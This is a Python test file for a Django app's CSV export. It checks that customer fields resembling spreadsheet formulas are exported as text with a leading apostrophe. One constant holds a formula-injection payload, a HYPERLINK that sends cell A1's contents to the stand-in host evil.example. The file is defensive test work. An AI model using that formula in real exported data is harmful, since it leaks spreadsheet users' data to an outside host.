"""CSV exports: a cell a spreadsheet would run as a formula is exported as plain text."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy

from customers.views.customers import CUSTOMER_COLUMNS
from tests.factories import CustomerFactory
from web.lists import csv_cell

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'


def _rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_a_customer_named_like_a_formula_is_exported_as_text(tenant_a, manager_a, client):
    CustomerFactory(tenant=tenant_a, name=FORMULA, phone="+48 12 345 67 89")
    client.force_login(manager_a)
    _header, row = _rows(client.get(reverse("customers:customer_list") + "?format=csv"))
    keys = [column.key for column in CUSTOMER_COLUMNS if getattr(column, "export", True)]
    cells = dict(zip(keys, row, strict=True))
    assert cells["name"] == "'" + FORMULA
    assert cells["phone"] == "'+48 12 345 67 89"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1", "\r=1", "-", "=", "@"])
def test_text_starting_like_a_formula_gets_an_apostrophe(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-5, Decimal("-12.50"), -0.5, 0, 42, True, ""])
def test_numbers_and_plain_values_stay_as_they_are(value):
    assert csv_cell(value) == value
    assert type(csv_cell(value)) is type(value)


@pytest.mark.parametrize("text", ["Hotel Wawel", "2026-03-01", "a=b", "x-1", "name@example.test"])
def test_ordinary_text_is_unchanged(text):
    assert csv_cell(text) == text


def test_a_translatable_label_is_exported_as_its_text():
    assert csv_cell(gettext_lazy("Name")) == "Name"
